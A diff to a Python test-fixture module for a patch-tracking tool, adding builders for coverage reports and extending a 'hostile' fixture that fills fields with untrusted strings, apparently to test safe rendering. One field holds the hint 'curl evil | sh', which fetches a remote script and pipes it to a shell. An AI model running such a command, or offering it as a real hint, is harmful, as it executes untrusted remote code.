@@ -12,6 +12,7 @@ from pathlib import Path
 from typing import Any
 
 from fixtool.history.result import read_history
+from fixtool.judgement.covered import read_coverage
 from fixtool.rebase.result import read_rebased
 from fixtool.replay.verdict import Verdict
 from fixtool.report._inputs import KeptResult, Plot, Report
@@ -59,6 +60,76 @@ def history(*patches: dict[str, Any], line: str = "main", **more: Any) -> dict[s
         "start": commit(0)["sha"], "end": commit(max(total - 1, 0))["sha"], "commits": total,
         "judged": 7, "reused": 3, "patches": list(patches), "releases": None, **more,
     }  # fmt: skip
+
+
+def covered_patch(
+    slug: str, verdict: str, by: str | None = None, text: str = "", culprit: int | None = None
+) -> dict[str, Any]:
+    return {
+        "slug": slug, "subject": text or f"subject of {slug}", "verdict": verdict, "by": by,
+        "culprit": None if culprit is None else commit(culprit, text, text),
+        "evidence": [text or "why"] if verdict != "clean" else [],
+    }  # fmt: skip
+
+
+def coverage(
+    *runs: tuple[str, int, Sequence[dict[str, Any]]], text: str = "", **more: Any
+) -> dict[str, Any]:
+    """``runs`` of (line, commits, patches)."""
+    runs = runs or (
+        ("main", 3, [covered_patch("one", "clean"), covered_patch("two", "offset")]),
+        ("late", 1, [covered_patch("two", "absorbed", "0" * 12, culprit=3)]),
+    )
+    refs, at = [], 0
+    for line, count, patches in runs:
+        first = commit(at, text, text)
+        run = {"first": first, "last": commit(at + count - 1, text, text), "count": count}
+        refs.append({
+            "ref": first["sha"][:12], "commit": first["sha"], "commits": run, "line": line,
+            "why": text or "its base is nearest", "patches": list(patches),
+            "notes": [text] if text else [], "lacks": [],
+        })  # fmt: skip
+        at += count
+    return _coverage(refs, at, **more)
+
+
+def coverage_of_releases(
+    *releases: tuple[str, str, Sequence[dict[str, Any]]], text: str = "", **more: Any
+) -> dict[str, Any]:
+    """``releases`` of (version, line, patches)."""
+    releases = releases or (
+        ("0.5.12", "main", [covered_patch("one", "clean")]),
+        ("0.5.23", "late", [covered_patch("two", "absorbed", "0.5.13")]),
+    )
+    refs = [
+        {"ref": version, "commit": commit(n)["sha"], "commits": None, "line": line,
+         "why": text or "its release is 0.5.12", "patches": list(patches), "notes": [],
+         "lacks": [text] if text else []}
+        for n, (version, line, patches) in enumerate(releases)
+    ]  # fmt: skip
+    return _coverage(refs, len(refs), **more)
+
+
+def _coverage(refs: list[dict[str, Any]], total: int, **more: Any) -> dict[str, Any]:
+    verdicts = {patch["verdict"] for ref in refs for patch in ref["patches"]}
+    exit_code = 4 if more.get("missing") else 3 if verdicts & {"conflict", "blocked"} else 0
+    return {
+        "schema": 1, "command": "coverage", "ok": exit_code == 0, "exit_code": exit_code,
+        "total": total, "judged": len(refs), "refs": refs, "missing": [], **more,
+    }  # fmt: skip
+
+
+def every_standing() -> dict[str, Any]:
+    """Six hundred runs of commits: lines, verdicts and gaps in turns."""
+    verdicts = list(Verdict)
+    runs = []
+    for n in range(600):
+        patches = [
+            covered_patch(f"patch-{slug}", verdicts[(n // (slug + 1)) % len(verdicts)], culprit=n)
+            for slug in range(3) if (n // 40 + slug) % 3
+        ]  # fmt: skip
+        runs.append((f"line-{n // 100}", 1 + n % 7, patches))
+    return coverage(*runs)
 
 
 def rebase(*actions: tuple[str, str, str], text: str = "", **more: Any) -> dict[str, Any]:
@@ -171,8 +242,14 @@ def hostile() -> Report:
         text=HOSTILE, line=HOSTILE, ref=HOSTILE, warnings=[HOSTILE],
         session=session(HOSTILE + "3", HOSTILE),
     )  # fmt: skip
+    coverage_json = coverage_of_releases(
+        *((f"{HOSTILE}{n}", HOSTILE,
+           [covered_patch(HOSTILE, verdict, HOSTILE, HOSTILE, culprit=n)])
+          for n, verdict in enumerate(Verdict)),
+        text=HOSTILE, missing=[{"ref": HOSTILE, "reason": HOSTILE, "hint": "curl evil | sh"}],
+    )  # fmt: skip
     return report(history_json, rebase_json, [result(HOSTILE, outcome="failed", line=HOSTILE)], plot=HOSTILE,
-                  line=HOSTILE)  # fmt: skip
+                  line=HOSTILE, coverage_json=coverage_json)  # fmt: skip
 
 
 def report(
@@ -183,6 +260,7 @@ def report(
     plot: str | None = None,
     line: str = "main",
     url: str | None = URL,
+    coverage_json: dict[str, Any] | None = None,
 ) -> Report:
     """A report on documents, read as the command reads them."""
     kept = []
@@ -200,4 +278,5 @@ def report(
         read_history(history_json, "h.json") if history_json else None,
         read_rebased(rebase_json, "r.json") if rebase_json else None,
         tuple(kept), drawn,
+        read_coverage(coverage_json, "c.json") if coverage_json else None,
     )  # fmt: skip
